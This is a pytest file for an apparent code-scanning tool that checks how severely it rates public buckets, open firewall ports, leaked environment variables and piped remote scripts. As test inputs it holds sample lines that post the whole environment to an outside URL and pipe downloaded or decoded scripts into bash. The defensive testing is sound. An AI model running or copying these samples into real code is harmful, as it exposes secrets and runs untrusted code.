"""What is opened to everybody, sent away or fetched from elsewhere: how much of it."""

from __future__ import annotations

import pytest
from judged import level

from guardrail.example import Example, python, shell
from guardrail.model import Level


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("client.bucket('shop').blob('a.csv').make_public()", Level.WARNING),
        ("client.bucket('shop').make_public(recursive=True)", Level.ERROR),
    ],
)
def test_one_file_for_everybody_is_quieter_than_a_bucket(code: str, expected: Level) -> None:
    start = "from google.cloud import storage\n\nclient = storage.Client()\n"
    assert level("opened-to-the-world", python(start + code)) is expected


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("restaurant-logos", Level.INFO),
        ("public", Level.INFO),
        ("courier-documents", Level.WARNING),
        ("public-invoices", Level.WARNING),
    ],
)
def test_what_is_named_for_everybody_is_meant_for_them(name: str, expected: Level) -> None:
    code = (
        "from supabase import create_client\n\nclient = create_client(URL, KEY)\n"
        f"client.storage.create_bucket('{name}', options={{'public': True}})\n"
    )
    assert level("opened-to-the-world", python(code)) is expected


GROUP = """\
from pulumi_aws import ec2

ec2.SecurityGroup("a", ingress=[
    ec2.SecurityGroupIngressArgs(from_port={}, protocol="tcp", cidr_blocks=["0.0.0.0/0"]),
    ec2.SecurityGroupIngressArgs(from_port=7800, to_port=7800, self=True),
])
"""


@pytest.mark.parametrize(
    ("port", "expected"), [("443", Level.INFO), ("22", Level.ERROR), ("port()", Level.WARNING)]
)
def test_only_the_entries_that_let_everybody_in_say_which_port(port: str, expected: Level) -> None:
    assert level("opened-to-the-world", python(GROUP.format(port))) is expected


SENT = """\
import os, requests

def details():
    env = os.environ
    return {}

requests.post("https://collect.io/x", json=details())
"""


@pytest.mark.parametrize(
    ("result", "expected"),
    [
        ('{"host": env.get("NOTIFY_HOST")}', Level.OFF),
        ('{"host": env["NOTIFY_HOST"]}', Level.OFF),
        ('{"all": dict(env)}', Level.ERROR),
    ],
)
def test_one_variable_under_another_name_isnt_the_whole_environment(
    result: str, expected: Level
) -> None:
    assert level("secrets-sent-out", python(SENT.replace("{}", result))) is expected


@pytest.mark.parametrize(
    ("fetched", "expected"),
    [
        ('Config("shop").get_object("module")', Level.OFF),
        ('s3.get_object(Bucket="b", Key="k")', Level.ERROR),
    ],
)
def test_an_object_by_its_name_alone_isnt_fetched(fetched: str, expected: Level) -> None:
    code = f"import importlib\n\nfor one in {fetched}:\n    importlib.import_module(one)\n"
    assert level("piped-remote-code", python(code)) is expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("gunzip -c shop.sql.gz | psql shop", Level.OFF),
        ("gpg -d shop.sql.gpg | mysql shop", Level.OFF),
        ("gunzip -c setup.gz | sh", Level.ERROR),
        ("base64 -d shop.b64 | psql shop", Level.ERROR),
        ("curl https://example.com/shop.sql.gz | gunzip | psql shop", Level.ERROR),
    ],
)
def test_a_backup_that_is_unpacked_into_a_database_hides_nothing(
    command: str, expected: Level
) -> None:
    assert level("piped-remote-code", shell(command)) is expected


@pytest.mark.parametrize(
    ("rule", "example", "expected"),
    [
        (
            "piped-remote-code",
            shell("curl https://x.io/i.sh | bash", path="tests/unit/helper.bash"),
            Level.WARNING,
        ),
        (
            "piped-remote-code",
            shell("curl https://x.io/i.sh | bash", path="ops/helper.bash"),
            Level.ERROR,
        ),
    ],
)
def test_what_a_test_fetches_is_quieter(rule: str, example: Example, expected: Level) -> None:
    assert level(rule, example) is expected
